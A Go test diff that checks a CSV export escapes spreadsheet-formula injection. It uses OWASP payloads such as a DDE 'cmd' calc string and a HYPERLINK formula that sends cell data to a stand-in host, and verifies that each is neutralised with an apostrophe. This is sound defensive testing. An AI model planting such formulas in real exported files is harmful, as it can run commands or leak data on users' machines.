@@ -201,3 +201,52 @@ func numFmt(t *testing.T, f *excelize.File, sheet, cell string) string {
 	}
 	return *st.CustomNumFmt
 }
+
+// TestCSVInjection: no text cell reaches a spreadsheet as a formula, on either
+// delimiter: OWASP's payloads (=, +, -, @, tab, CR; also after leading blanks) and line
+// feeds are neutralised with an apostrophe, harmless text is left alone.
+func TestCSVInjection(t *testing.T) {
+	payloads := []string{
+		"=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "=cmd|' /C calc'!A0", `=HYPERLINK("http://x.example/?"&A1,"Klick")`,
+		"\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "  +1", "\u00a0=1+1", "\u3000@SUM(1)", "\t", "\r",
+		"=", "-", "@",
+	}
+	harmless := []string{"Stadt Münster", "1+1=2", "a=b", "E-Mail", "lwl-it", "'=schon geschützt", "Zeile\nzwei", ";=1+1", ",=1+1"}
+	// encoding/csv reads a quoted CR LF as LF and drops a lone CR: compare so
+	read := strings.NewReplacer("\r\n", "\n", "\r", "")
+	cells := [][]export.Cell{}
+	for _, p := range append(slices.Clone(payloads), harmless...) {
+		cells = append(cells, []export.Cell{export.Text(p)})
+	}
+	for _, comma := range []rune{';', ','} {
+		var buf bytes.Buffer
+		w, err := export.NewCSV(&buf, []export.Column{{Header: "Titel"}}, comma)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, row := range cells {
+			if err := w.WriteRow(row); err != nil {
+				t.Fatal(err)
+			}
+		}
+		if err := w.Close(); err != nil {
+			t.Fatal(err)
+		}
+		r := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\uFEFF")))
+		r.Comma = comma
+		recs, err := r.ReadAll()
+		if err != nil || len(recs) != len(cells)+1 {
+			t.Fatalf("%q: %d records, %v", comma, len(recs), err)
+		}
+		for i, p := range payloads {
+			if got := recs[i+1][0]; got != read.Replace("'"+p) {
+				t.Errorf("%q: %q written as %q, want it behind an apostrophe", comma, p, got)
+			}
+		}
+		for i, h := range harmless {
+			if got := recs[len(payloads)+i+1][0]; got != read.Replace(h) {
+				t.Errorf("%q: %q written as %q", comma, h, got)
+			}
+		}
+	}
+}
